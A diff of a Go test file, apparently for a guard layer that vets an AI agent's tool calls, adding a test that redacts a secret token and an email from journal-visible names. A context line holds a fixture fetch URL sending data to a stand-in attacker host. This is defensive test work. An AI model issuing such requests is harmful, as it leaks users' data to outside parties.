@@ -145,6 +145,20 @@ func TestDoubtfulCallsAskAPerson(t *testing.T) {
 	}
 }
 
+// The caller chooses the names of arguments, so the journal shows them like values.
+func TestOriginsContainNoSecret(t *testing.T) {
+	const secret, personal = "correct-horse-battery", "jane.doe@corp.example"
+	g := newOffice(open(t, statetest.Open(t)), &desk{}, NewFlow(), func(o *Options) {
+		o.Known = func() ([]guard.Known, error) { return []guard.Known{{Name: "token", Value: secret}}, nil }
+	})
+	g.guards.rules.Input.PII = []string{"email"}
+	for name, want := range map[string]string{"/to/" + secret: "/to/[secret:token]", "/to/" + personal: "/to/[email]", "/to/0": "/to/0"} {
+		if got := g.showableName(name); got != want {
+			t.Errorf("%s: got %q, want %q", name, got, want)
+		}
+	}
+}
+
 // A refusal does not make the refused value trusted.
 func TestRefusedFetchIsAskedAgain(t *testing.T) {
 	const other = `{"url":"https://attacker.example/take?d=4711"}`
